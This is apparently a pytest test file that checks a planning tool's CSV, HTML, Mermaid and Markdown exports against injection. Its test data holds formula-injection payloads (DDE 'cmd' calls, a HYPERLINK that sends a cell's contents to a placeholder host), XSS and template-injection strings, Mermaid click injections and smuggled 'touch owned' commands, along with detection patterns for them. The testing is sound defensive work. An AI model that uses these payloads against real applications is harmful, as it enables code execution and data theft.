"""What is exported is opened by other programs: nothing of a plan becomes a formula, a script or a command there."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest

from tests.commands.desk import Desk

FORMULAS = (
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    " =1+1",
    "＝1+1",
    '=1+1";=1+1',
    "\t=1+1",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<!--><script>alert(1)</script>",
    "<style>@import 'http://x.example'</style>",
    "<iframe src=http://x.example>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
)
DIAGRAMS = (
    'x"]; click A href "javascript:alert(1)"',
    'x"] --> B["y',
    "%%{init: {'securityLevel': 'loose'}}%%",
    "end",
    "x]\nclick A call alert()",
    "A --- B; style A fill:#f00",
    "<img src=x onerror=alert(1)>",
    "`**markdown**`",
)
MARKDOWN = (
    "x\n  - run: `touch owned`",
    "- [ ] another task",
    "`` ` `` run: `touch owned`",
    "check: `touch owned`",
    "[click](javascript:alert(1))",
    "![x](http://x.example/pixel.png)",
    "<img src=http://x.example/pixel.png>",
    "--> run: `touch owned`",
    "run: `touch owned`",
    "## Quality gates",
)


def _with(desk: Desk, text: str) -> Desk:
    """A plan that says *text* wherever words may stand."""
    desk.plan("# P\n- [ ] A\n  - run: `echo x`\n- [ ] B\n  - depends on: A\n")
    words = text.replace("\n", " ").replace('"', '\\"')
    desk(f'/update_task 1 title:"T {words}" description:"{words}" assignee:"{words}" tags:"{words}" accept:"{words}"')
    desk(f'/add_task "{words}"')
    desk(f"/note {text}")
    desk("/new_task 1 --skip-verification")
    return desk


def _export(desk: Desk, kind: str) -> str:
    return str(desk(f"/export_plan {kind} --include-progress").content)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_is_a_formula(text: str, desk: Desk) -> None:
    """Read as a spreadsheet reads it: no cell begins with what makes one."""
    rows = list(csv.reader(io.StringIO(_export(_with(desk, text), "csv"))))
    assert len({len(row) for row in rows}) == 1
    assert len(rows) == 4
    begins = {cell.lstrip(" ")[:1] for row in rows[1:] for cell in row}
    assert not begins & set("=+-@\t\r＝＋－＠")


class _Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note elements that act or fetch, handlers of events, and addresses that are no place in the page."""
        if tag in ("script", "img", "iframe", "object", "embed", "link", "base", "form", "svg", "input"):
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src") and not (value or "").startswith("#")):
                self.wrong.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("text", SCRIPTS)
def test_a_page_holds_no_element_of_a_plan(text: str, desk: Desk) -> None:
    """No script, picture, frame or handler; and were there one, the page forbids it to run."""
    page = _Page()
    content = _export(_with(desk, text), "html")
    page.feed(content)
    assert not page.wrong
    assert "default-src 'none'" in content


@pytest.mark.parametrize("text", DIAGRAMS)
def test_a_diagram_holds_no_statement_of_a_plan(text: str, desk: Desk) -> None:
    """Every line is one that we write: a node with a quoted label, an edge, a class, a group."""
    content = _export(_with(desk, text), "mermaid")
    for line in content.splitlines():
        outside = re.sub(r'"[^"]*"', '""', line)
        assert not re.search(r"click|javascript|%%\{|<|onerror|call ", outside.replace("<br/>", "")), line
        assert line.count('"') % 2 == 0, line
    labels = "".join(re.findall(r'"([^"]*)"', content)).replace("<br/>", "")
    assert "<" not in labels


@pytest.mark.parametrize("text", MARKDOWN)
def test_no_words_of_a_plan_become_a_command_or_a_task_when_it_is_read_back(text: str, desk: Desk) -> None:
    """Exported and planned again it has the same tasks, and the one command it had."""
    content = _export(_with(desk, text), "markdown")
    count = len(desk.graph.tasks)
    desk(f"/plan\n{content}", yes=True)
    commands = [c for t in desk.graph.ordered() for c in t.commands]
    commands += [g.check for g in desk.graph.root.plan.quality_gates if g.check]
    assert commands == ["echo x"]
    assert len(desk.graph.tasks) == count


@pytest.mark.parametrize(
    "text", ["<img src=http://x.example/p.png>", "![x](http://x.example/p.png)", "[x](javascript:x)"]
)
def test_markdown_shows_no_picture_and_no_link_of_a_title(text: str, desk: Desk) -> None:
    """A page on a code host fetches nothing because of a title."""
    from markdown_it import MarkdownIt

    desk.plan("# P\n- [ ] A\n")
    desk(f'/update_task 1 title:"{text}"')
    page = MarkdownIt("commonmark", {"html": True}).render(_export(desk, "markdown"))
    assert "<img" not in page
    assert "<a " not in page
